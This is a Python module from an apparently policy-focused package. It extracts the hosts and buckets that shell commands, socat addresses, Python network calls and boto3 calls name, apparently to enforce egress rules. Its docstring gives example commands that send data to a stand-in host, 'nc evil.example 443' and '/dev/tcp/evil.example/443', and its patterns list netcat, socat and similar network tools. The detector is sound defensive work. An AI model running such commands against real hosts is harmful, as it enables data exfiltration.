"""Hosts and buckets that commands and programs name without the form of a URL.

``curl evil.example/x``, ``nc evil.example 443``, ``/dev/tcp/evil.example/443``, ``scp f user@evil.example:``,
``aws s3api put-object --bucket x`` and calls of Python's standard library and boto3. Only the words after a program
that connects to hosts are read as hosts: elsewhere, ``data.json`` and ``table.column`` have the same form.
"""

from __future__ import annotations

import bisect
import itertools
import re
from collections.abc import Iterable, Iterator
from typing import Final

from lakekit_policies.destinations import shapes
from lakekit_policies.destinations.model import Kind

_COPIES: Final = frozenset({"rsync", "scp"})
"""Operands with a colon are remote."""
_BY_OPTION: Final = frozenset({"mongo", "mongosh", "mysql", "openssl", "psql", "redis-cli", "sqlcmd"})
"""Only options name the host."""
_EVERY_OPERAND: Final = frozenset({"aria2c", "axel", "curl", "dig", "lynx", "nslookup", "wget"})
_FIRST_OPERAND: Final = frozenset(
    {"autossh", "ftp", "lftp", "nc", "ncat", "netcat", "ping", "sftp", "ssh", "telnet", "tftp", "traceroute", "whois"}
)
_NAMES: Final = "|".join(sorted((*_COPIES, *_BY_OPTION, *_EVERY_OPERAND, *_FIRST_OPERAND, "socat"), reverse=True))
_PROGRAMS: Final = re.compile(rf"(?<![\w./-])(?:[\w.-]*/)*({_NAMES})(?=\s)")
_ANY: Final = re.compile(
    rf"(?<![\w./-])(?:[\w.-]*/)*(?:{_NAMES})\s|/dev/(?:tcp|udp)/|--bucket[=\s]|[Bb]ucket|connect|Connection|SMTP|FTP"
    r"|sendto|Transport|getaddrinfo|gethostby"
)
_SOCKET: Final = re.compile(r"/dev/(?:tcp|udp)/([^/\s\"';]+)/")
_SUBSTITUTION: Final = re.compile(r"\$\([^()]*\)|`[^`]*`")
_END: Final = re.compile(r"[;&|\n<>()`]")
_WORD: Final = re.compile(r"\"([^\"]*)\"|'([^']*)'|(\S+)")
_ASSIGNMENT: Final = re.compile(r"(?:^|(?<=[\s;]))(?:(?:export|readonly|local)\s+)?([A-Za-z_]\w*)=[\"']?([\w.:/@-]+)")
_VARIABLE: Final = re.compile(r"\$\$?\{([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)")
# Short options that take a value: a file, a header, a number, a local port.
# https://curl.se/docs/manpage.html, https://www.gnu.org/software/wget/manual, https://man.openbsd.org/ssh, https://nmap.org/ncat
_SSH: Final = frozenset("BbcDEeFIiJLlmOoPpQRSWw")
_NETCAT: Final = frozenset("cegGiImoOpPqsTVwX")
_SHORT_WITH_VALUE: Final = {
    "curl": frozenset("AbcCdDeEFHKmoPQrtTuUwXyYz"),
    "wget": frozenset("AaBDeilIoOPQRtTUwX"),
    "dig": frozenset("bcfkpqty"),
    "ping": frozenset("ciIlmMpQsStTwW"),
    "ssh": _SSH,
    "autossh": _SSH,
    "scp": _SSH,
    "sftp": _SSH,
    "nc": _NETCAT,
    "ncat": _NETCAT,
    "netcat": _NETCAT,
}
_LONG_WITHOUT_VALUE: Final = re.compile(
    r"--(?:silent|show-error|fail|location|insecure|compressed|verbose|head|remote-name|quiet"
    r"|no-check-certificate|continue|get|ipv4|ipv6|fail-with-body|ssl|send-only|recv-only|archive"
    r"|recursive|delete|no-verbose|spider|globoff|http1\.1|http2|anyauth|negotiate)"
)
_HOST_OPTIONS: Final = frozenset(
    {"--url", "--proxy", "--preproxy", "--socks5", "--connect", "-connect", "--host", "--server"}
)
_REMOTE: Final = re.compile(r"(?:[\w.+-]+@)?([\w.-]+):.*")
_SOCAT: Final = re.compile(r"(?i)(?:tcp|udp|openssl|ssl|sctp|proxy|socks4a?)[46]?(?:-connect)?:([^:,\s]+)")
_BUCKET_NAME: Final = r"([a-z0-9][a-z0-9.-]{1,61}[a-z0-9])"
_BUCKETS: Final = (
    re.compile(rf"--bucket(?:=|\s+)[\"']?{_BUCKET_NAME}(?![\w.${{-])"),
    re.compile(
        rf"(?m)^[ \t]*(?:-[ \t]+)?bucket:\s*[\"']?{_BUCKET_NAME}[\"']?\s*$"
    ),  # pipelines of OpenSearch Ingestion
    re.compile(rf"\bBucket(?:Name)?[\"']?\s*(?:=|:|\()\s*[\"']{_BUCKET_NAME}[\"']"),
)
_CALL: Final = re.compile(
    r"(?:connect(?:_ex)?|create_connection|open_connection|HTTPS?Connection|SMTP(?:_SSL)?|FTP(?:_TLS)?|sendto|Transport"
    r"|getaddrinfo|gethostbyname(?:_ex)?)\s*\(\s*(?:[\w.()]+\s*,\s*)?(?:host(?:name)?\s*=\s*)?(?:\(\s*)?[\"']([\w.-]+)[\"']"
)
_MAX_WORDS: Final = 100
"""Words of a command that are read: each program in a text starts a command."""
_COMMENT: Final = re.compile(r"(?m)^[ \t]*#(?!!).*$")


def in_text(text: str) -> Iterator[tuple[Kind, str]]:
    """Every host and bucket that a command, a script or a program names."""
    if _ANY.search(text) is None:
        return
    code = _expanded(without_comments(text).replace("\\\n", " "))
    found: list[tuple[Kind, str]] = []
    operands: dict[str, None] = {}
    for part in dict.fromkeys((code, _SUBSTITUTION.sub("x", code))):
        ends = [end.start() for end in _END.finditer(part)]
        for program in _PROGRAMS.finditer(part):
            words = _words(part, program.end(), ends)
            operands.update(dict.fromkeys(_operands(program[1], words)))
    for operand in operands:
        found += shapes.in_url(f"https://{operand}")
    for host in (*_SOCKET.findall(code), *_CALL.findall(code)):
        found += shapes.in_url(f"https://{host}")
    found += ((Kind.BUCKET, name) for pattern in _BUCKETS for name in pattern.findall(code))
    yield from dict.fromkeys(found)


def in_words(words: Iterable[object]) -> Iterator[tuple[Kind, str]]:
    """Every host and bucket of a command whose words are the items of a list."""
    texts = [word for word in words if isinstance(word, str)]
    if len(texts) > 1:
        yield from in_text(" ".join(texts))


def without_comments(script: str) -> str:
    """A script without the lines that are comments."""
    return _COMMENT.sub("", script)


def _expanded(code: str) -> str:
    """A script with the values of the variables that it sets to a literal."""
    known = dict(_ASSIGNMENT.findall(code))
    return _VARIABLE.sub(lambda found: known.get(found[1] or found[2], found[0]), code) if known else code


def _words(text: str, start: int, ends: list[int]) -> list[str]:
    """The words of a command from a position up to its end, the next of ``ends``; at most ``_MAX_WORDS``."""
    at = bisect.bisect_left(ends, start)
    words = _WORD.finditer(text, start, ends[at] if at < len(ends) else len(text))
    return [word[1] or word[2] or (word[3] or "").strip("\"'") for word in itertools.islice(words, _MAX_WORDS)]


def _operands(program: str, words: list[str]) -> Iterator[str]:
    """The words of a command that name a host."""
    option = ""
    for word in words:
        if word.startswith("-"):
            name, _, value = word.partition("=")
            if value and name in _HOST_OPTIONS:
                yield value
            option = word
            continue
        before, option = option, ""
        if before in _HOST_OPTIONS or (before in ("-h", "-S") and program in _BY_OPTION):
            yield word
        elif before == "-x" and program not in _COPIES:
            yield word  # a proxy
        elif _takes_value(program, before) or program in _BY_OPTION:
            continue
        elif program == "socat":
            yield from _SOCAT.findall(word)
        elif program in _COPIES:
            yield from _REMOTE.findall(word)
        elif program in _FIRST_OPERAND:
            yield word.rpartition("@")[2]
            return
        else:
            yield word.removeprefix("@")


def _takes_value(program: str, option: str) -> bool:
    """Whether the word after an option is its value."""
    if option.startswith("--"):
        return "=" not in option and not _LONG_WITHOUT_VALUE.fullmatch(option)
    with_value = _SHORT_WITH_VALUE.get(program, frozenset())
    first = next((at for at, letter in enumerate(option) if at and letter in with_value), None)
    return first is not None and first == len(option) - 1
